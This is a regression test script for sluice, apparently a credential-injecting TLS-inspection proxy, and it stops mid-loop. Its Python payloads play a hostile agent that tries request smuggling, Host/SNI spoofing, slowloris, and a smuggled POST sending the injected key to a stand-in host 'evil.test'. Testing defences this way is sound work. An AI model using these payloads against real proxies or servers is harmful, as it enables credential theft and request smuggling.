#!/bin/bash
# SPDX-License-Identifier: MIT
#
# A hostile agent against TLS inspection and credential injection. It wants
# the key sluice injects, a method, path or host the policy does not allow,
# or the key sent somewhere other than its rule's host (or in plain text).
# Every attack runs as the agent inside `sluice run` (attacks.py: raw bytes
# over TLS that trusts sluice's CA, through the proxy or captured), against
# the world's origin (lib/origin.py, a stock Python http.server) and a raw
# origin of this test's own (atk-origin.py, on 203.0.113.3) whose responses
# echo the injected credential in framings a proxy can get wrong.
#
# Each check asserts what the agent saw (status, whether the connection was
# closed), what the origins logged (which requests reached them, with which
# credential) and that no key came back: each keeps a bypass closed (the
# first review found the Connection-header smuggling, the slowloris and a
# heap overflow on compact heads open). The slowloris part runs `sluice
# gateway` with short timeouts, in the host namespace. About 15 s.
#
# Usage: test-inspect-attacks.sh [PATH-TO-SLUICE]
# Exit: 0 all passed, 1 a check failed, 77 skipped (not root and CI is not "true").
# shellcheck source-path=SCRIPTDIR
set -u

here=$(cd "$(dirname "$0")" && pwd)
SLUICE=$(realpath "${1:-${SLUICE:-$here/../../build/cli/sluice}}")

. "$here/lib/checks.sh"
needs_root test-inspect-attacks.sh ip nft nsenter python3 curl dnsmasq openssl ss

. "$here/world.sh"
PY=/usr/bin/python3
[ -x "$PY" ] || PY=$(command -v python3)

world_begin
T=$WORLD_TMP
N=$WORLD_NET_ADDR
X=203.0.113.3 # atk-origin.py's address, in the internet namespace only
world_net ip addr add "$X/24" dev wi0 || { echo "not ok - $X"; exit 1; }

# The keys: new for every run, in files only root can read (make_keys, lib/checks.sh).
make_keys "$T/secrets" || { echo "not ok - could not make the keys"; exit 1; }
mkdir -m 700 "$T/ca"

mkdir -m 1777 "$T/work"
ORIGIN_OPENAI_KEY_FILE=$T/secrets/openai.key ORIGIN_ANTHROPIC_KEY_FILE=$T/secrets/anthropic.key \
	world_services api.openai.com="$N" api.anthropic.com="$N" plain.test="$N" \
	atk.test="$X" atk-plain.test="$X" || { echo "not ok - services"; exit 1; }
chmod 644 "$T/cert.pem"

cat >"$T/atk-origin.py" <<'PY'
# atk-origin.py LOG CERT KEY ADDR: a raw HTTP/1.1 origin (TLS on :443, plain on
# :80) whose responses are written byte by byte, for the response-side
# attacks: each route echoes the credential header it received (x-api-key or
# Authorization, as sluice injected it) in a framing a proxy can get wrong.
# Logs "METHOD PATH host=HOST auth=real|wrong|none ae=ACCEPT-ENCODING" per
# request (never a key).
import gzip, hmac, os, re, socket, ssl, sys, threading, time
from urllib.parse import parse_qs, urlsplit

sys.path.insert(0, os.environ["SL_TEST_LIB"])
from rawhttp import Conn, serve_forever  # noqa: E402

log_path, cert, keyf, addr = sys.argv[1:5]
lock = threading.Lock()
OPEN = [0]
KEYS = []
for f in os.environ.get("ATK_KEY_FILES", "").split(":"):
    if f:
        KEYS.append(open(f).read().rstrip("\r\n"))


def log(line):
    with lock, open(log_path, "a") as f:
        f.write(line + "\n")


def auth_of(hdrs):
    vals = [v for n, v in hdrs if n.lower() in ("x-api-key", "authorization")]
    if not vals:
        return "none"
    ok = all(any(hmac.compare_digest(v.encode(), k.encode()) or
                 hmac.compare_digest(v.encode(), ("Bearer " + k).encode()) for k in KEYS)
             for v in vals)
    return "real" if ok else "wrong"


def resp(status, body=b"", headers=()):
    h = "".join("%s: %s\r\n" % hv for hv in headers)
    return ("HTTP/1.1 %s\r\n%sContent-Length: %d\r\n\r\n" % (status, h, len(body))).encode() + body


def serve(sock):
    c = Conn(sock)
    try:
        while True:
            method, target, hdrs, get, body = c.request()
            u = urlsplit(target)
            q = parse_qs(u.query)
            p = u.path
            echo = (get("x-api-key") or get("authorization") or "none").encode()
            log("%s %s host=%s auth=%s ae=%s" % (method, target, get("host"), auth_of(hdrs),
                                                 get("accept-encoding")))
            out, close = None, False
            if p == "/hdrs":
                # N header lines with no space after the colon: each one
                # grows by a byte when a proxy rewrites it as "a: b".
                n = int(q.get("n", ["128"])[0])
                out = b"HTTP/1.1 200 OK\r\n" + b"".join(b"h%d:v\r\n" % i for i in range(n - 1)) + \
                    b"Content-Length: 3\r\n\r\nok\n"
            elif p == "/bighead":
                out = resp("200 OK", b"ok\n", [("X-Big", "a" * 200000)])
            elif p == "/echo-103":
                out = b"HTTP/1.1 103 Early Hints\r\nX-Echo: " + echo + b"\r\n\r\n" + resp("200 OK", b"ok\n")
            elif p == "/echo-reason":
                out = b"HTTP/1.1 200 " + echo + b"\r\nContent-Length: 3\r\n\r\nok\n"
            elif p == "/echo-head":
                # A body after the head of a HEAD response, and one for 204/304.
                out = resp("200 OK", echo)
                if method != "HEAD":
                    out = resp("200 OK", b"not head\n")
            elif p in ("/echo-204", "/echo-304"):
                out = ("HTTP/1.1 %s\r\nContent-Length: %d\r\n\r\n" % (
                    "204 No Content" if p == "/echo-204" else "304 Not Modified", len(echo))).encode() + echo
            elif p == "/echo-trailer":
                out = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\r\n" \
                      b"3\r\nok\n\r\n0\r\nX-Echo: " + echo + b"\r\n\r\n"
            elif p == "/echo-chunkext":
                out = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3;e=" + echo + \
                      b"\r\nok\n\r\n0\r\n\r\n"
            elif p == "/echo-gzip":
                ae = (get("accept-encoding") or "").lower()
                if "gzip" in ae:
                    out = resp("200 OK", gzip.compress(echo), [("Content-Encoding", "gzip")])
                else:
                    out = resp("200 OK", echo)
            elif p == "/echo-gzip-cgi":
                # As lighttpd hands headers to a CGI or FastCGI app (and
                # wsgiref, for '_'): every byte that is no letter or digit
                # is '-', and every spelling's values joined.
                ae = ",".join(v for n, v in hdrs
                              if re.sub(r"[^a-z0-9]", "-", n.lower()) == "accept-encoding")
                log("cgi-ae=%s" % ae)
                if "gzip" in ae.lower():
                    out = resp("200 OK", gzip.compress(echo), [("Content-Encoding", "gzip")])
                else:
                    out = resp("200 OK", echo)
            elif p == "/echo-gzip-anyway":
                # Compressed whatever it was asked (a misconfigured proxy).
                out = resp("200 OK", gzip.compress(echo), [("Content-Encoding", "gzip")])
            elif p == "/echo-ce-none":
                # What streaming servers send to keep proxies from compressing.
                out = resp("200 OK", echo, [("Content-Encoding", "none")])
            elif p == "/echo-te-gzip":
                out = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n" + \
                    b"%x\r\n" % len(gzip.compress(echo)) + gzip.compress(echo) + b"\r\n0\r\n\r\n"
            elif p == "/echo-close":
                out, close = b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nend:" + echo, True
            elif p == "/echo-clte":
                out = b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n" + \
                    b"%x\r\n%s\r\n0\r\n\r\n" % (len(echo), echo)
            elif p == "/echo-split":
                # The echo cut in two TLS records, a moment apart.
                half = len(echo) // 2
                sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(echo) + echo[:half])
                time.sleep(0.3)
                out = echo[half:]
            elif p == "/collect":
                # What a request's body held: whether a key was in it.
                log("collect host=%s body-has-key=%d" % (get("host"), int(any(k.encode() in body for k in KEYS))))
                out = resp("200 OK", b"collected\n")
            elif p == "/open-conns":
                with lock:
                    out = resp("200 OK", b"open=%d\n" % OPEN[0])
            elif p == "/redirect":
                out = resp("302 Found", b"", [("Location", q.get("to", [""])[0])])
            elif p == "/slow":
                time.sleep(float(q.get("s", ["0.5"])[0]))
                out = resp("200 OK", b"slow\n")
            else:
                out = resp("200 OK", ("origin %s %s body=%d\n" % (method, target, len(body))).encode())
            sock.sendall(out)
            if close:
                break
    except (EOFError, OSError, ValueError, IndexError):
        pass
    finally:
        try:
            sock.close()
        except OSError:
            pass


def counted(port):
    """serve, with the TLS connections open counted in OPEN."""
    def handle(s):
        with lock:
            OPEN[0] += port == 443
        try:
            serve(s)
        finally:
            with lock:
                OPEN[0] -= port == 443
    return handle


ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, keyf)
threading.Thread(target=serve_forever, args=(addr, 80, None, counted(80)), daemon=True).start()
threading.Thread(target=serve_forever, args=(addr, 443, ctx, counted(443)), daemon=True).start()
time.sleep(0.3)
open(log_path + ".ready", "w").close()
threading.Event().wait()
PY

cat >"$T/attacks.py" <<'PY'
# attacks.py NAME...: each attack, run as the agent inside `sluice run`,
# prints "NAME: RESULT" (statuses and what the test compares) and
# "NAME raw: REPR" (every byte that came back, which the test searches for
# the keys). HTTPS goes through HTTPS_PROXY (CONNECT) unless the attack
# says "direct" (captured); TLS is verified against SSL_CERT_FILE (sluice's
# CA), as any client in the sandbox would.
import os, socket, ssl, sys, threading, time
from urllib.parse import urlsplit

A, O, ATK, PLAIN = "api.anthropic.com", "api.openai.com", "atk.test", "plain.test"


def connect_proxy():
    p = urlsplit(os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"])
    return socket.create_connection((p.hostname, p.port or 80), timeout=10)


def tls(host, port=443, direct=False, sni=None):
    if direct:
        s = socket.create_connection((host, port), timeout=10)
    else:
        s = connect_proxy()
        s.sendall(b"CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host.encode(), port,
                                                                      host.encode(), port))
        h = b""
        while b"\r\n\r\n" not in h:
            d = s.recv(1)
            if not d:
                raise OSError("CONNECT closed")
            h += d
        if not h.startswith(b"HTTP/1.1 200"):
            raise OSError("CONNECT " + h.split(b"\r\n")[0].decode())
    return ssl.create_default_context().wrap_socket(s, server_hostname=sni or host)


class Reader:
    """Responses off one connection; every byte kept in .raw."""

    def __init__(self, s):
        self.s, self.buf, self.raw, self.interim = s, b"", b"", []

    def fill(self, t=5):
        self.s.settimeout(t)
        try:
            d = self.s.recv(65536)
        except socket.timeout:
            raise TimeoutError
        except (ConnectionResetError, ssl.SSLError, OSError):
            d = b""
        if not d:
            raise EOFError
        self.buf += d
        self.raw += d

    def need(self, n):
        while len(self.buf) < n:
            self.fill()

    def line(self):
        while b"\r\n" not in self.buf:
            self.fill()
        l, _, self.buf = self.buf.partition(b"\r\n")
        return l

    def response(self, head=False):
        """The next final response: (status, headers dict, body); status is
        "closed" or "timeout" when none came."""
        try:
            while True:
                st = self.line()
                hdrs = {}
                while True:
                    l = self.line()
                    if not l:
                        break
                    n, _, v = l.decode("latin-1").partition(":")
                    hdrs[n.strip().lower()] = v.strip()
                code = int(st.split(b" ")[1])
                if code < 200:
                    self.interim.append(code)
                    continue
                break
            body = b""
            if head or code in (204, 304):
                pass
            elif "chunked" in hdrs.get("transfer-encoding", "").lower():
                while True:
                    size = int(self.line().split(b";")[0], 16)
                    if size == 0:
                        while self.line():
                            pass
                        break
                    self.need(size + 2)
                    body += self.buf[:size]
                    self.buf = self.buf[size + 2:]
            elif "content-length" in hdrs:
                n = int(hdrs["content-length"])
                self.need(n)
                body, self.buf = self.buf[:n], self.buf[n:]
            else:
                try:
                    while True:
                        self.fill()
                except (EOFError, TimeoutError):
                    pass
                body, self.buf = self.buf, b""
            return str(code), hdrs, body
        except EOFError:
            return "closed", {}, b""
        except TimeoutError:
            return "timeout", {}, b""

    def closed(self, t=3):
        try:
            self.fill(t)
            return "open"
        except EOFError:
            return "closed"
        except TimeoutError:
            return "open"


def exchange(host, reqs, port=443, direct=False, sni=None, head_for=()):
    """Send each request (bytes) in turn, reading its response before the
    next; returns (statuses, bodies, raw)."""
    try:
        s = tls(host, port, direct, sni)
    except (OSError, ssl.SSLError) as e:
        return ["no-tls"], [str(e).encode()], b""
    r = Reader(s)
    sts, bodies = [], []
    for i, q in enumerate(reqs):
        try:
            s.sendall(q)
        except OSError:
            sts.append("closed")
            break
        st, h, b = r.response(head=i in head_for)
        sts.append(st)
        bodies.append(b)
        if st in ("closed", "timeout"):
            break
    s.close()
    return sts, bodies, r.raw


MSG = b'{"model":"m","max_tokens":1,"messages":[]}'


def post(host, path, extra=b"", body=MSG):
    # A request the Anthropic-shaped origin answers 200.
    return b"POST %s HTTP/1.1\r\nHost: %s\r\nanthropic-version: 1\r\n%sContent-Length: %d\r\n\r\n%s" % (
        path.encode(), host.encode(), extra, len(body), body)


def get(host, path, extra=b"", method=b"GET"):
    return b"%s %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (method, path.encode(), host.encode(), extra)


results = {}


def attack(fn):
    results[fn.__name__.replace("_", "-")] = fn
    return fn


# ---- request smuggling inside the tunnel ----

@attack
def smuggle_cl_conn():
    # Content-Length named in Connection: if it is dropped on the way up,
    # the origin reads no body, and the body is the start of a request
    # nobody decided; the next request (with the injected key) completes it.
    inner = b"GET /v1/files HTTP/1.1\r\nX-Ignore: "
    sts, bodies, raw = exchange(A, [
        b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: content-length\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(inner), inner),
        post(A, "/v1/messages")])
    return " ".join(sts) + " | " + (bodies[1][:60].decode("latin-1") if len(bodies) > 1 else ""), raw


@attack
def smuggle_key_to_vhost():
    # The smuggled request names another virtual host and a body exactly as
    # long as the next request's head up to the end of the injected key
    # (key formats are public): on a shared front end, the key is posted
    # to whoever owns that host.
    nxt = b"GET /c HTTP/1.1\r\nHost: atk.test\r\nAccept-Encoding: identity\r\nx-api-key: "
    inner = b"POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: %d\r\n\r\n" % (
        len(nxt) + int(os.environ["KEYLEN"]))
    sts, bodies, raw = exchange(ATK, [
        b"POST /r HTTP/1.1\r\nHost: atk.test\r\nConnection: content-length\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(inner), inner),
        get(ATK, "/c")])
    return " ".join(sts) + " | " + (bodies[1][:40].decode("latin-1").strip() if len(bodies) > 1 else ""), raw


@attack
def pool_open():
    time.sleep(0.5)
    sts, bodies, raw = exchange(ATK, [get(ATK, "/open-conns")])
    return sts[0] + " " + (bodies[0].decode().strip() if bodies else ""), raw


@attack
def connect_plaintext():
    # An inspected host through CONNECT, spoken to in plain HTTP.
    s = connect_proxy()
    s.sendall(b"CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n")
    r = Reader(s)
    st = r.response(head=True)[0]
    s.sendall(b"GET /connect-plaintext HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
    st2 = r.response()[0]
    return st + " " + st2, r.raw


@attack
def slowloris_proxy():
    # The same trickle on the proxy's own head: cut off at the deadline.
    s = connect_proxy()
    t0 = time.monotonic()
    s.settimeout(0.4)
    for b in b"GET http://plain.test/slow HTTP/1.1\r\nHost: plain.test\r\nX-Slow: " + b"a" * 200:
        if time.monotonic() - t0 > float(os.environ.get("SLOW_FOR", "4")):
            return "open after %.0fs" % float(os.environ.get("SLOW_FOR", "4")), b""
        try:
            s.sendall(bytes([b]))
            d = s.recv(4096)
            if not d:
                break
            return "answered %s" % d.split(b"\r\n")[0].decode("latin-1"), b""
        except socket.timeout:
            continue
        except OSError:
            break
    return "closed", b""


@attack
def smuggle_te_conn():
    sts, bodies, raw = exchange(O, [
        b"POST /te-conn HTTP/1.1\r\nHost: api.openai.com\r\nConnection: transfer-encoding\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"])
    return sts[0] + " " + (bodies[0].decode("latin-1").strip() if bodies else ""), raw


@attack
def smuggle_host_conn():
    sts, bodies, raw = exchange(O, [get(O, "/host-conn", b"Connection: host\r\n")])
    return sts[0], raw


def one_refused(host, req):
    s = tls(host)
    s.sendall(req)
    r = Reader(s)
    st, _, _ = r.response()
    return st + " " + r.closed(), r.raw


@attack
def cl_te():
    return one_refused(A, b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 4\r\n"
                          b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
                          b"GET /v1/files-clte HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n")


@attack
def dup_cl():
    return one_refused(A, b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 0\r\n"
                          b"Content-Length: 46\r\n\r\n"
                          b"GET /v1/files-dupcl HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n")


@attack
def cl_list():
    return one_refused(A, b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 2, 2\r\n\r\n{}")


@attack
def te_not_chunked():
    return one_refused(A, b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n"
                          b"Transfer-Encoding: chunked, identity\r\n\r\n2\r\n{}\r\n0\r\n\r\n")


@attack
def te_space_colon():
    return one_refused(A, b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n"
                          b"Transfer-Encoding : chunked\r\nContent-Length: 2\r\n\r\n{}")


@attack
def obs_fold():
    return one_refused(A, b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nX-A: a\r\n"
                          b" Transfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n{}")


@attack
def bare_lf():
    return one_refused(A, b"POST /v1/messages HTTP/1.1\nHost: api.anthropic.com\r\nContent-Length: 2\r\n\r\n{}")


@attack
def chunk_size_hex_prefix():
    return one_refused(A, b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n"
                          b"Transfer-Encoding: chunked\r\n\r\n0x2\r\n{}\r\n0\r\n\r\n")


@attack
def chunk_size_overflow():
    return one_refused(A, b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n"
                          b"Transfer-Encoding: chunked\r\n\r\n10000000000000002\r\n{}\r\n0\r\n\r\n")


@attack
def body_hides_request():
    # A whole forbidden request as the (correctly framed) body, and another
    # pipelined right after it in the same write.
    inner = b"GET /v1/files-body HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n"
    s = tls(A)
    s.sendall(post(A, "/v1/messages", body=inner) +
              b"GET /v1/files-pipe HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n")
    r = Reader(s)
    a = r.response()[0]
    b = r.response()[0]
    return a + " " + b, r.raw


@attack
def chunked_trailer_pipeline():
    s = tls(A)
    s.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nTransfer-Encoding: chunked\r\n"
              b"anthropic-version: 1\r\n\r\n%x;ext=\"a b\"\r\n%s\r\n0\r\nX-Trailer: GET /v1/files-trailer\r\n\r\n"
              b"GET /v1/files-trailer2 HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n" % (len(MSG), MSG))
    r = Reader(s)
    a = r.response()[0]
    b = r.response()[0]
    return a + " " + b, r.raw


@attack
def expect_continue():
    inner = b"GET /v1/files-expect HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n"
    s = tls(A)
    s.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nExpect: 100-continue\r\n"
              b"Content-Length: %d\r\n\r\n" % len(inner))
    r = Reader(s)
    try:
        r.fill(3)
    except (EOFError, TimeoutError):
        pass
    first = r.buf.split(b"\r\n")[0].decode("latin-1")
    s.sendall(inner)
    st = r.response()[0]
    return "%s | %s" % (first, st), r.raw


@attack
def leave_mid_body():
    # One client leaves its request half sent; a request on a new
    # connection must not become the rest of that body.
    s = tls(A)
    s.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 300\r\n\r\n{\"a\":")
    time.sleep(0.3)
    s.close()
    sts, bodies, raw = exchange(A, [post(A, "/v1/messages/after-leave")])
    return sts[0] + " " + (bodies[0].decode("latin-1").strip() if bodies else ""), raw


# ---- Host and target games ----

def host_req(extra_line, target=None):
    # Each under its own path below /v1/messages/, which the rule allows.
    name = sys._getframe(1).f_code.co_name.replace("_", "-")
    target = target or b"/v1/messages/" + name.encode()
    return b"POST " + target + b" HTTP/1.1\r\n" + extra_line + b"Content-Length: 2\r\n\r\n{}"


@attack
def absform_https():
    return one_refused(A, host_req(b"Host: api.anthropic.com\r\n", b"https://api.anthropic.com/v1/messages"))


@attack
def absform_other():
    return one_refused(A, host_req(b"Host: api.anthropic.com\r\n", b"http://plain.test/v1/messages"))


@attack
def host_port():
    return one_refused(A, host_req(b"Host: api.anthropic.com:8443\r\n"))


@attack
def host_idn():
    return one_refused(A, host_req("Host: \u0430pi.anthropic.com\r\n".encode()))


@attack
def host_two():
    return one_refused(A, host_req(b"Host: api.anthropic.com\r\nHost: plain.test\r\n"))


@attack
def host_none():
    return one_refused(A, host_req(b""))


@attack
def host_userinfo():
    return one_refused(A, host_req(b"Host: plain.test@api.anthropic.com\r\n"))


@attack
def host_other_xfh():
    return one_refused(A, host_req(b"Host: plain.test\r\nX-Forwarded-Host: api.anthropic.com\r\n"))


@attack
def sni_other():
    try:
        s = tls(A, sni=PLAIN)
        s.sendall(get(PLAIN, "/sni-other"))
        return "handshake-ok " + s.recv(100).split(b"\r\n")[0].decode(), b""
    except (OSError, ssl.SSLError):
        return "closed", b""


@attack
def nosni_inspected():
    # A ClientHello without SNI is refused toward a passed-through host;
    # to an inspected one TLS ends here, so the Host inside is decided
    # anyway (plain.test allows GET and POST, not DELETE).
    try:
        s = connect_proxy()
        s.sendall(b"CONNECT plain.test:443 HTTP/1.1\r\nHost: plain.test:443\r\n\r\n")
        h = b""
        while b"\r\n\r\n" not in h:
            d = s.recv(1)
            if not d:
                raise OSError("CONNECT closed")
            h += d
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        s = ctx.wrap_socket(s)  # no server_hostname: no SNI
    except (OSError, ssl.SSLError) as e:
        return "no-tls " + str(e), b""
    r = Reader(s)
    s.sendall(get(PLAIN, "/nosni-get"))
    st1 = r.response()[0]
    s.sendall(get(PLAIN, "/nosni-delete", method=b"DELETE"))
    return st1 + " " + r.response()[0], r.raw


@attack
def nosni_inspected_capture():
    # The same, ignoring the proxy: decided by the name our DNS gave out
    # the address for, then inspected.
    try:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        s = ctx.wrap_socket(socket.create_connection((PLAIN, 443), timeout=10))
    except (OSError, ssl.SSLError) as e:
        return "no-tls " + str(e), b""
    r = Reader(s)
    s.sendall(get(PLAIN, "/nosni-cap-get"))
    st1 = r.response()[0]
    s.sendall(get(PLAIN, "/nosni-cap-delete", method=b"DELETE"))
    return st1 + " " + r.response()[0], r.raw


# ---- the credential header ----

@attack
def inject_games():
    sts, bodies, raw = exchange(O, [get(O, "/echo-headers?games",
        b"authorization: Bearer agent-one\r\nAUTHORIZATION: Bearer agent-two\r\n"
        b"Connection: authorization\r\nProxy-Authorization: Basic YWdlbnQ6cHc=\r\n")])
    lines = [l for l in bodies[0].decode("latin-1").splitlines()
             if l.lower().startswith(("authorization:", "proxy-authorization:"))] if bodies else []
    return sts[0] + " " + " ".join(l.split(":")[0] for l in lines) + \
        " agent-values=%d" % bodies[0].count(b"agent-") if bodies else sts[0], raw


@attack
def inject_fold():
    return one_refused(O, b"GET /echo-headers?fold HTTP/1.1\r\nHost: api.openai.com\r\n"
                          b"Authorization: Bearer x\r\n y\r\n\r\n")


# ---- responses ----

def atk(path, method=b"GET", extra=b"", then=None):
    reqs = [get(ATK, path, extra, method)]
    if then:
        reqs.append(get(ATK, then))
    sts, bodies, raw = exchange(ATK, reqs, head_for=(0,) if method == b"HEAD" else ())
    return sts, bodies, raw


@attack
def r_103():
    s = tls(ATK)
    s.sendall(get(ATK, "/echo-103"))
    r = Reader(s)
    st = r.response()[0]
    return " ".join(map(str, r.interim + [st])), r.raw


def statuses(path):
    sts, bodies, raw = atk(path)
    return " ".join(sts), raw


# Attacks whose result is the statuses alone.
for name, path in (("r-reason", "/echo-reason"), ("r-gzip-anyway", "/echo-gzip-anyway"),
                   ("r-ce-none", "/echo-ce-none"), ("r-te-gzip", "/echo-te-gzip"),
                   ("r-close", "/echo-close"), ("r-clte", "/echo-clte"),
                   ("r-split", "/echo-split"), ("r-bighead", "/bighead")):
    results[name] = (lambda p: lambda: statuses(p))(path)


@attack
def r_head_body():
    sts, bodies, raw = atk("/echo-head", b"HEAD", then="/after-head")
    return " ".join(sts) + " | " + (bodies[1].decode("latin-1").strip() if len(bodies) > 1 else ""), raw


@attack
def r_204_body():
    sts, bodies, raw = atk("/echo-204", then="/after-204")
    return " ".join(sts) + " | " + (bodies[1].decode("latin-1").strip() if len(bodies) > 1 else ""), raw


@attack
def r_304_body():
    sts, bodies, raw = atk("/echo-304", then="/after-304")
    return " ".join(sts) + " | " + (bodies[1].decode("latin-1").strip() if len(bodies) > 1 else ""), raw


@attack
def r_trailer():
    sts, bodies, raw = atk("/echo-trailer")
    return " ".join(sts) + " " + repr(bodies[0] if bodies else b""), raw


@attack
def r_chunkext():
    sts, bodies, raw = atk("/echo-chunkext")
    return " ".join(sts) + " " + repr(bodies[0] if bodies else b""), raw


@attack
def r_gzip():
    sts, bodies, raw = atk("/echo-gzip", extra=b"Accept-Encoding: gzip\r\naccept-encoding: gzip, br\r\n"
                                              b"TE: gzip\r\nConnection: accept-encoding, TE\r\n")
    gz = b"content-encoding: gzip" in raw.lower()
    return " ".join(sts) + (" gzip" if gz else " identity"), raw


@attack
def r_gzip_underscore():
    sts, bodies, raw = atk("/echo-gzip-cgi", extra=b"Accept_Encoding: gzip\r\nAccept.Encoding: gzip\r\n"
                                                  b"Accept~Encoding: gzip\r\n")
    gz = b"content-encoding: gzip" in raw.lower()
    return " ".join(sts) + (" gzip" if gz else " identity"), raw


# ---- the key to another port, or in plain text ----

@attack
def port80_connect():
    sts, bodies, raw = exchange(O, [b"GET /port80-connect HTTP/1.1\r\nHost: api.openai.com:80\r\n\r\n"], port=80)
    return sts[0], raw


@attack
def port80_capture():
    sts, bodies, raw = exchange(O, [b"GET /port80-capture HTTP/1.1\r\nHost: api.openai.com:80\r\n\r\n"], port=80, direct=True)
    return sts[0], raw


def plain(sock, req):
    sock.sendall(req)
    r = Reader(sock)
    return r.response()[0], r.raw


@attack
def plain443_capture():
    return plain(socket.create_connection((O, 443), timeout=10),
                 b"GET /plain443-capture HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n")


@attack
def plain443_proxy():
    return plain(connect_proxy(),
                 b"GET http://api.openai.com:443/plain443-proxy HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n")


# ---- memory: head rewriting ----

@attack
def req_many_headers():
    # 127 headers written "name:value" (no space): each is a byte longer
    # when rewritten as "name: value" for the origin.
    hs = b"".join(b"a%d:b\r\n" % i for i in range(127))
    sts, bodies, raw = exchange(ATK, [b"GET /many-req HTTP/1.1\r\nHost:atk.test\r\n" + hs + b"\r\n"])
    return sts[0], raw


@attack
def resp_many_headers():
    sts, bodies, raw = atk("/hdrs?n=128", extra=b"Connection: close\r\n")
    return sts[0], raw


@attack
def resp_many_headers_plain():
    s = connect_proxy()
    return plain(s, b"GET http://atk-plain.test/hdrs?n=128 HTTP/1.1\r\nHost: atk-plain.test\r\n\r\n")


@attack
def health():
    sts, bodies, raw = exchange(PLAIN, [get(PLAIN, "/health")])
    return sts[0], raw


# ---- resources ----

@attack
def pool_burst():
    out = []

    def one():
        sts, _, _ = exchange(ATK, [get(ATK, "/slow?s=0.5")])
        out.append(sts[0])
    ts = [threading.Thread(target=one) for _ in range(10)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(20)
    return " ".join(sorted(out)), b""


@attack
def slowloris():
    # Inside the TLS session, a head that never ends: one byte at a time,
    # each before the idle limit. The head deadline must still cut it off.
    s = tls(PLAIN)
    head = b"GET /slowloris HTTP/1.1\r\nHost: plain.test\r\nX-Slow: " + b"a" * 200
    t0 = time.monotonic()
    s.settimeout(0.4)
    for b in head:
        if time.monotonic() - t0 > float(os.environ.get("SLOW_FOR", "4")):
            return "open after %.0fs" % float(os.environ.get("SLOW_FOR", "4")), b""
        try:
            s.sendall(bytes([b]))
            d = s.recv(4096)
            if not d:
                break
            return "answered %r" % d.split(b"\r\n")[0], b""
        except socket.timeout:
            continue
        except (OSError, ssl.SSLError):
            break
    return "closed after %.1fs" % (time.monotonic() - t0), b""


@attack
def slowloris_record():
    # One TLS record holding a whole head, its bytes trickled: nothing
    # decrypts before the last one, so no head has begun by the plaintext;
    # the head deadline must still run from the record's first byte.
    s = connect_proxy()
    s.sendall(b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (PLAIN.encode(),
                                                                    PLAIN.encode()))
    h = b""
    while b"\r\n\r\n" not in h:
        d = s.recv(1)
        if not d:
            return "CONNECT closed", b""
        h += d
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ssl.create_default_context().wrap_bio(i, o, server_hostname=PLAIN)
    while True:
        try:
            obj.do_handshake()
            break
        except ssl.SSLWantReadError:
            s.sendall(o.read())
            d = s.recv(65536)
            if not d:
                return "closed in the handshake", b""
            i.write(d)
    s.sendall(o.read())
    obj.write(b"GET /slowloris-record HTTP/1.1\r\nHost: plain.test\r\nX-Slow: " + b"a" * 200
              + b"\r\n\r\n")
    rec = o.read()
    t0 = time.monotonic()
    s.settimeout(0.4)
    for b in rec[:-1]:
        if time.monotonic() - t0 > float(os.environ.get("SLOW_FOR", "4")):
            return "open after %.0fs" % float(os.environ.get("SLOW_FOR", "4")), b""
        try:
            s.sendall(bytes([b]))
            d = s.recv(4096)
            if not d:
                break
            i.write(d)  # session tickets, or an answer
            try:
                got = obj.read(4096)
            except ssl.SSLWantReadError:
                continue
            except ssl.SSLError:
                break
            return "answered %r" % got.split(b"\r\n")[0] if got else "closed after %.1fs" % (
                time.monotonic() - t0), b""
        except socket.timeout:
            continue
        except OSError:
            break
    return "closed after %.1fs" % (time.monotonic() - t0), b""


for name in sys.argv[1:]:
    try:
